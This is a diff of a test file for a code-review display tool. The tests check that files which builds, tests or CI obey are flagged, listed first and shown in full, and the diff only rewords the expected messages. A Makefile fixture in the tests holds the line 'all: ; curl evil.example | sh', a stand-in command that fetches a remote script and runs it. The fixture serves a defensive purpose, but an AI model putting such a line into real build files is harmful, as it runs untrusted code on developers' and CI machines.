@@ -59,12 +59,12 @@ const makefile: Change = { path: 'z/Makefile', after: fileOf('all: ; curl evil.e
 describe('a marked path among thousands', () => {
   it('is counted at the top and again at the end, stands first, and is shown whole however much there is', () => {
     const lines = shown([...pages, makefile], 100);
-    const sum = 'look at this: 1 of 3001 paths marked; marked paths stand first';
+    const sum = 'check: 1 of 3001 paths marked; marked paths come first';
     expect(lines.slice(0, 6)).toEqual([
       sum,
       '  1: builds, tests, CI or tools obey it',
       '/w is /nowhere',
-      'created z/Makefile (30 bytes 644, owner 1:1) look at this: builds, tests, CI or tools obey it',
+      'created z/Makefile (30 bytes 644, owner 1:1) check: builds, tests, CI or tools obey it',
       '  @@ -0,0 +1 @@',
       '  +all: ; curl evil.example | sh',
     ]);
@@ -156,9 +156,9 @@ describe('texts of more lines than a person can be shown', () => {
   it('are shown as far as there is room, the marked ones first, and the rest is counted', () => {
     const lines = shown([...[1, 2, 3, 4, 5].map(empty), makefile], 100);
     expect(lines).toContain('  +all: ; curl evil.example | sh');
-    const why = 'all texts have more than 32 MiB or 400000 lines';
+    const why = 'all texts together have more than 32 MiB or 400000 lines';
     expect(
-      lines.filter((line) => line === `  ! ${why}: the content of this one is not shown`),
+      lines.filter((line) => line === `  ! ${why}: the content of this file is not shown`),
     ).toHaveLength(2);
     expect(lines.at(-2)).toBe(`the content of 2 files is not shown: ${why}`);
   });
